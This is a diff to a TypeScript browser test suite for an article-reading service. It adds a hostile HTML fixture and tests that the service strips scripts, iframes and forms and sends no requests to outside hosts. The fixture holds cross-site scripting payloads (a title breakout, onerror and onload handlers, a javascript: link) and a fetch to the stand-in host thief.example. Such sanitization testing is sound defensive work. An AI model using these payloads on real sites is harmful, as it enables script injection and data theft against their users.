@@ -12,6 +12,27 @@ async function keep({ store }: Service, article: ParsedArticle): Promise<void> {
   await store.save([{ page, article: data }])
 }
 
+const [closesTitle, script, drawing] = [
+  '&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<script>fetch("https://thief.example/")</script>',
+  '&lt;svg onload=alert(1)&gt;',
+]
+/** A page that tries it in its title, tags, byline, links, captions and texts, and with elements of its own. */
+const hostilePage = `<!doctype html><html><head><title>${closesTitle}</title>
+<meta name="keywords" content="${drawing}">
+<meta property="og:image" content='https://thief.example/"onerror="alert(1)'>
+<link rel="canonical" href="https://news.example.com/2024/03/09/2002.html">
+${script}</head><body onload="alert(1)"><article>
+<h1 onclick="alert(1)">望江市图书馆${closesTitle}</h1>
+<p class="author">${drawing}</p>
+<p>望江市图书馆周六重新开放，读者在门前排起长队。<a href="javascript:alert(1)">旧馆的书一本也没有丢</a>，馆长说。</p>
+<figure><img src='https://thief.example/a.jpg"onerror="alert(1)' onerror="alert(1)" alt='"><img src=x onerror=alert(1)>'>
+<figcaption>图书馆的大门。${closesTitle}</figcaption></figure>
+<p>整修用了三年，比计划多出一年。${drawing}${script}</p>
+<iframe src="https://thief.example/"></iframe><form action="https://thief.example/"><input autofocus onfocus="alert(1)"></form>
+<p>图书馆每天开放到晚上九点，周末不休息。&lt;img src=x onerror=alert(1)&gt;</p>
+</article></body></html>`
+
 type Look = { paper: string; indent: number; leading: number; measure: number; overflow: number }
 
 /** Runs in the page: its paper, and in multiples of a character's size indent, leading and length of a line. */
@@ -58,16 +79,20 @@ t.test('the reading page', { skip: noBrowser }, async (t) => {
       t.ok(look.leading >= 1.7, 'lines stand apart')
       t.ok(look.measure <= 40, 'lines are not too long')
       t.equal(look.overflow, 0, 'nothing hangs out')
+      await page.locator('figure').last().scrollIntoViewIfNeeded()
+      await page.waitForLoadState('networkidle')
+      t.strictSame(foreign, [], 'nothing is asked of another host')
+      for (const summary of await page.locator('summary').all()) await summary.click()
       if (pictures !== undefined) await page.screenshot({ path: `${pictures}/${name}.png`, fullPage: true })
-      await page.locator('figure img').last().scrollIntoViewIfNeeded()
-      await page.waitForFunction('[...document.images].every((image) => image.naturalWidth > 0)')
+      await page.waitForLoadState('networkidle')
+      t.ok(await page.evaluate('[...document.images].every((image) => image.naturalWidth > 0)'))
       t.strictSame(
         foreign.toSorted(),
         [
           'image https://news.example.com/photos/door.jpg',
           'image https://news.example.com/photos/stairs.jpg',
         ],
-        "only the article's images are asked of another host",
+        'but the images that the reader opens',
       )
       t.strictSame(said, [], 'the console is silent')
       await context.close()
@@ -98,16 +123,28 @@ t.test('the reading page', { skip: noBrowser }, async (t) => {
     const { page, context, foreign, said } = await visit(browser, service, '/articles/hostile-1')
     for (const link of await page.locator('a').all())
       t.match(await link.getAttribute('href'), /^(?:\/|https?:)/, 'links lead to pages')
-    await page.locator('img').last().scrollIntoViewIfNeeded()
+    await page.locator('figure').last().scrollIntoViewIfNeeded()
     await page.locator('h1').hover()
     await page.waitForLoadState('networkidle')
     t.equal(await page.locator('script').count(), 0)
     t.strictSame(said, [], 'nothing ran, and nothing had to be refused')
-    t.strictSame(
-      foreign.filter((request) => !request.startsWith('image https://news.example.com/')),
-      [],
-    )
+    t.strictSame(foreign, [], 'no request left')
     await context.close()
+  })
+
+  t.test('nor does a hostile page that came in by the front door', async (t) => {
+    const reply = await service.post(Buffer.from(hostilePage), 'text/html')
+    t.equal(reply.status, 201)
+    const { id, title, image } = reply.json<ParsedArticle>()
+    t.match([title, image?.src].join(' '), /<script>.*onerror/, 'its texts are kept as texts')
+    for (const path of [`/articles/${id}`, `/articles/${id}?format=html`, '/', `/articles/${id}/missing`]) {
+      const { page, context, foreign, said } = await visit(browser, service, path)
+      await page.waitForLoadState('networkidle')
+      t.equal(await page.locator('script, svg, iframe, form').count(), 0, path)
+      const refusals = said.filter((line) => !/status of 404/.test(line))
+      t.strictSame([foreign, refusals], [[], []], path)
+      await context.close()
+    }
   })
 })
 
